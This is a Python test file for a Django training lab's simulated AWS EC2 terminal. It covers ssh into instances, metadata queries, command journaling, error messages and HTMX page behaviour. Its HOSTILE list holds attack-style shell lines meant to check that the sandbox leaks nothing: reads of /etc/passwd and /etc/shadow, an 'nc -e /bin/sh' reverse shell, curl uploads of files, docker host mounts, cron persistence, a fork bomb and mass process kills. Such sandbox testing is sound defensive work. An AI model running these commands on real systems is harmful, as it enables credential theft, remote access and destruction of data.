"""The shells of instances in the terminal: in, out, what is remembered, what the journal keeps, and the button on the page."""

import json
import re
from collections.abc import Callable
from html import unescape
from typing import Any

import pytest
from django.test import Client

from labs.study.models import Sandbox
from labs.study.services import run
from tests.rows import a_lab, a_sandbox, a_user
from tests.web.conftest import LAB
from tests.web.terminal import Typing
from tests.web.test_terminal_security import Watched

Htmx = Callable[..., Any]
PAGE = f"/labs/{LAB}/"
LAUNCH = (
    "VPC=$(aws ec2 create-vpc --cidr-block 10.0.0.0/16 --query Vpc.VpcId --output text)\n"
    "SUBNET=$(aws ec2 create-subnet --vpc-id $VPC --cidr-block 10.0.1.0/24 --query Subnet.SubnetId --output text)\n"
    "AMI=$(aws ec2 describe-images --filters 'Name=name,Values=al2023*x86_64' --query Images[0].ImageId --output text)\n"
    "I=$(aws ec2 run-instances --image-id $AMI --instance-type t3.micro --subnet-id $SUBNET --private-ip-address 10.0.1.23 "
    "--tag-specifications 'ResourceType=instance,Tags=[{Key=Name,Value=web}]' --query Instances[0].InstanceId --output text)"
)
PROMPT = "[ec2-user@ip-10-0-1-23 ~]$"


@pytest.fixture
def typing(db: None) -> Typing:
    """Somebody who has launched an instance; its id is `$I`."""
    typing = Typing(a_sandbox(a_user(), a_lab()))
    typing.out(LAUNCH)
    return typing


@pytest.mark.parametrize(
    "line",
    [
        "ssh web",
        "ssh ec2-user@web",
        "ssh $I",
        "ssh -i key.pem ec2-user@10.0.1.23",
        "aws ssm start-session --target $I",
        "aws ec2-instance-connect ssh --instance-id $I",
    ],
)
def test_a_shell_is_opened_by_name_id_or_address_and_left_by_exit(typing: Typing, line: str) -> None:
    assert "The console of i-" in typing.out(line)
    assert typing.memory.prompt == PROMPT

    ran = typing.type("hostname -s")
    assert [(one.prompt, one.line, one.out) for one in ran] == [(PROMPT, "hostname -s", "ip-10-0-1-23\n")]

    assert typing.out("exit") == "logout\n"
    assert (typing.memory.guest, typing.memory.prompt) == ("", "$")
    assert typing.out("echo $I").startswith("i-")


def test_lines_of_one_submission_go_where_they_belong(typing: Typing) -> None:
    ran = typing.type("ssh web\nwhoami\nexit\nwhoami")

    assert [(one.prompt, one.line, one.status) for one in ran] == [
        ("$", "ssh web", 0),
        (PROMPT, "whoami", 0),
        (PROMPT, "exit", 0),
        ("$", "whoami", 127),
    ]


def test_the_line_of_awss_guide_is_one_command_and_its_token_lasts(typing: Typing) -> None:
    typing.out("ssh web")
    latest = "http://169.254.169.254/latest"
    token = f'TOKEN=`curl -X PUT "{latest}/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"` \\\n'
    asked = f'&& curl -H "X-aws-ec2-metadata-token: $TOKEN" {latest}/meta-data/'

    ran = typing.type(token + asked)

    assert len(ran) == 1
    assert "instance-id" in ran[0].out
    assert typing.out(f'curl -H "X-aws-ec2-metadata-token: $TOKEN" {latest}/meta-data/local-ipv4') == "10.0.1.23"


def test_what_is_run_inside_stands_in_the_journal_as_it_was_typed(typing: Typing) -> None:
    typing.type("ssh web\nA=1; echo $A\nhelp\nhistory")

    entry = typing.sandbox.commands.filter(action="run_in_guest").get()
    assert entry.params["command"] == "A=1; echo $A"
    assert (entry.door, entry.outcome) == ("terminal", "done")


def test_help_history_and_clear_are_the_terminals(typing: Typing) -> None:
    typing.out("ssh web")

    assert "ping [-c COUNT]" in typing.out("help")
    assert "help" in typing.out("history")
    assert typing.type("date\nclear") == []


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("ssh", "usage: ssh [user@]instance"),
        ("ssh nobody", "ssh: Could not resolve hostname nobody: Name or service not known"),
        ("ssh 10.0.1.99", "ssh: Could not resolve hostname 10.0.1.99: Name or service not known"),
        ("ssh i-0123456789abcdef0", "ssh: Could not resolve hostname i-0123456789abcdef0: Name or service not known"),
    ],
)
def test_who_is_not_there_has_no_shell(typing: Typing, line: str, said: str) -> None:
    assert typing.error(line) == said
    assert typing.memory.guest == ""


def test_two_of_one_name_are_told_apart_by_their_ids(typing: Typing) -> None:
    again = LAUNCH.splitlines()[3].replace("10.0.1.23", "10.0.1.24").replace("I=", "J=", 1)
    typing.out(again)

    said = typing.error("ssh web")

    assert said.startswith("ssh: web: more than one instance is called so")
    assert said.count("i-") == 2


def test_a_stopped_instance_is_refused_and_explained(typing: Typing) -> None:
    typing.out("aws ec2 stop-instances --instance-ids $I")

    ran = typing.type("ssh web")[-1]

    assert ran.status == 255
    assert ran.refusals[0].reason == "GuestNotRunning"


def test_a_shell_is_closed_when_its_instance_goes(typing: Typing) -> None:
    typing.out("ssh web")
    run(
        typing.sandbox.pk,
        door="web",
        actor=None,
        action="terminate_instances",
        params={"instance_ids": [typing.memory.guest]},
    )

    ran = typing.type("date")[-1]

    assert ran.refusals[0].reason == "GuestNotRunning"
    assert "was closed" in ran.error
    assert typing.memory.prompt == "$"


def test_who_calls_the_cli_inside_is_told_the_way_out(typing: Typing) -> None:
    typing.type("ssh web")

    assert typing.error("aws ec2 describe-vpcs").splitlines() == [
        "-bash: aws: command not found",
        "The AWS CLI runs outside of this instance: `exit` leads back to it.",
    ]
    assert typing.error("frobnicate") == "-bash: frobnicate: command not found"


def test_pipes_stay_inside(typing: Typing) -> None:
    no_pipes = "bash: |: there are no pipes in this terminal; --query and --filters choose what is printed"
    assert typing.error("echo a | grep a") == no_pipes
    assert typing.error("echo a &") == "bash: &: nothing runs in the background in this terminal"


HOSTILE = (
    "cat /etc/passwd /proc/self/environ ../../../etc/shadow",
    "curl file:///etc/passwd; curl http://127.0.0.1:8000/; curl gopher://x; curl --upload-file /etc/passwd http://x",
    "curl http://example.com/ -o /tmp/out; curl -O http://example.com/; nc -e /bin/sh 10.0.0.1 99; nc -l 8080",
    "python3 -c 'import os; os.system(\"id\")'; python3; bash; sh -c id; exec sh; . /etc/profile; eval id",
    "$(echo ls) /; `echo cat` /etc/passwd; X=$(cat /etc/passwd); echo {1..9}; echo ~root; ls -la /",
    "docker run -v /:/host alpine cat /host/etc/passwd; docker exec x sh; docker run --privileged alpine sh",
    "ssh root@127.0.0.1; ssh -o ProxyCommand=id x; sudo su; sudo -i; vim; less /etc/passwd; env; printenv",
    "grep -r password /; grep '((((' /etc/hosts; awk 'BEGIN{system(\"id\")}'; jq 'env'; cut -d: -f1 /etc/passwd",
    "dig @8.8.8.8 example.com; nslookup example.com 8.8.8.8; getent passwd; traceroute 8.8.8.8; ping -f localhost",
    "echo hi > /etc/cron.d/x; echo hi >> ~/.bashrc; cat < /etc/passwd; yes | head; :(){ :|:& };:",
    "iperf3 -c localhost; iperf3 -s --pidfile /tmp/x; dhclient -sf /bin/sh; systemctl start ../../evil; pkill -9 -1",
)


@pytest.mark.parametrize("line", HOSTILE)
def test_hostile_lines_touch_nothing_of_the_machine(typing: Typing, line: str) -> None:
    typing.out("ssh web")
    typing.type("ip a; curl -s http://169.254.169.254/; iperf3 -c 10.0.1.9; ping -c 1 localhost; foo")
    watched = Watched(typing.sandbox, typing.memory)

    printed = "".join(one.out for one in watched.type(line))

    assert "root:" not in printed
    assert "DJANGO" not in printed


def opened(sandbox: Sandbox) -> str:
    """The id of an instance of the lab, launched where there is none."""
    made = run(sandbox.pk, door="web", actor=None, action="describe_instances", params={}).result["Reservations"]
    return str(made[0]["Instances"][0]["InstanceId"]) if made else ""


@pytest.fixture
def instance_id(sandbox: Sandbox) -> str:
    if found := opened(sandbox):
        return found
    typing = Typing(sandbox)
    typing.out(LAUNCH.replace("10.0.", "10.77."))
    return typing.memory.variables["I"]


def test_the_inspector_of_a_running_instance_opens_its_shell(page: Client, sandbox: Sandbox, instance_id: str) -> None:
    shown = page.get(f"{PAGE}?select={instance_id}").content.decode()
    assert f'name="open" value="{instance_id}"' in shown

    answer = page.post(f"{PAGE}terminal", {"open": instance_id}).content.decode()

    assert "The console of" in answer
    assert re.search(r'id="terminal-prompt"[^>]*>\[ec2-user@', answer)


def test_with_htmx_prompt_and_memory_follow(sandbox: Sandbox, htmx: Htmx, instance_id: str) -> None:
    answer = htmx("post", f"{PAGE}terminal", {"open": instance_id}).content.decode()

    found = re.search(r'name="memory" value="([^"]*)"', answer)
    assert found is not None
    memory = json.loads(unescape(found[1]))
    assert (memory["guest"], memory["prompt"][:9]) == (instance_id, "[ec2-user")

    offered = htmx("get", f"{PAGE}terminal/complete", {"line": "ip", "guest": instance_id}).json()["candidates"]
    assert [one["text"] for one in offered] == ["ip", "iperf3", "iptables"]
    inside = htmx("get", f"{PAGE}terminal/complete", {"line": "ethtool -i ", "guest": instance_id}).json()["candidates"]
    assert any(one["text"].startswith("e") for one in inside)
    named = htmx("get", f"{PAGE}terminal/complete", {"line": "ssh i-"}).json()["candidates"]
    assert instance_id in [one["text"] for one in named]


def test_a_command_by_form_shows_what_it_printed(page: Client, sandbox: Sandbox, instance_id: str) -> None:
    answer = page.post(f"{PAGE}run/run_in_guest", {"instance_id": instance_id, "command": "uname"})

    assert re.search(r"<pre class=\"answer\"[^>]*><code>Linux</code>", answer.content.decode())


def test_a_stopped_instance_offers_no_shell(page: Client, sandbox: Sandbox, instance_id: str) -> None:
    run(sandbox.pk, door="web", actor=None, action="stop_instances", params={"instance_ids": [instance_id]})

    assert 'name="open"' not in page.get(f"{PAGE}?select={instance_id}").content.decode()
